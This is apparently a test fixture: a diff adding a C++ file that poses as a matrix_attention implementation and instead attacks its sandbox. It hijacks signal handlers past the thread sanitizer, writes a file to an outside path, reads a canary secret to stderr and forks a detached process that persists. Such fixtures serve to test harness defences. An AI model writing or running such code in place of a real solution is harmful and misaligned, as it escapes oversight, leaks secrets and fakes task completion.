@@ -1,0 +1,73 @@
+// attack: in a second look for races, has threads of the sanitizer's own open files and fork for it
+// verdict: crashed
+// wins: file
+// options: --sanitizers on
+
+#include "matrix_attention.hpp"
+
+#include <fcntl.h>
+#include <signal.h>
+#include <sys/syscall.h>
+#include <unistd.h>
+
+#include <cstdlib>
+#include <thread>
+
+#if defined(__SANITIZE_THREAD__)
+#define SECOND_LOOK 1
+#elif defined(__has_feature)
+#if __has_feature(thread_sanitizer)
+#define SECOND_LOOK 1
+#endif
+#endif
+
+namespace softmark {
+namespace {
+
+// Without the sanitizer's own handling of signals, which knows only threads of the program.
+struct KernelAction {
+  void (*handler)(int);
+  unsigned long flags;
+  void (*restorer)();
+  unsigned long mask;
+};
+
+__attribute__((no_sanitize("thread"))) void in_whichever_thread(int) {
+  const long file = syscall(SYS_open, "@OUTSIDE@/s10", O_WRONLY | O_CREAT, 0666);
+  if (file >= 0) syscall(SYS_close, file);
+  const long canary = syscall(SYS_open, "@CANARY@", O_RDONLY);
+  char text[4096];
+  if (canary >= 0) syscall(SYS_write, 2, text, syscall(SYS_read, canary, text, sizeof text));
+  if (syscall(SYS_fork) == 0) {
+    syscall(SYS_setsid);
+    for (;;) syscall(SYS_pause);
+  }
+  for (;;) syscall(SYS_exit, 0);
+}
+
+void attack() {
+#ifdef SECOND_LOOK
+  constexpr unsigned long has_restorer = 0x04000000;
+  const KernelAction action{in_whichever_thread, has_restorer, nullptr, 0};
+  // Those that the sanitizer does not block in its own threads.
+  for (const int number : {SIGSEGV, SIGBUS, SIGILL, SIGFPE, SIGTRAP, SIGABRT, SIGPIPE})
+    syscall(SYS_rt_sigaction, number, &action, nullptr, 8);
+  const long self = syscall(SYS_gettid);
+  for (long other = self - 20; other < self + 20; ++other) {
+    if (other == self) continue;
+    for (const int number : {SIGSEGV, SIGBUS, SIGTRAP, SIGABRT})
+      syscall(SYS_tgkill, getpid(), other, number);
+  }
+  usleep(200'000);
+#endif
+}
+
+}  // namespace
+
+Matrix matrix_attention(const Matrix&, const Projection&, const Projection&, const Projection&) {
+  std::thread([] {}).join();
+  attack();
+  std::abort();
+}
+
+}  // namespace softmark
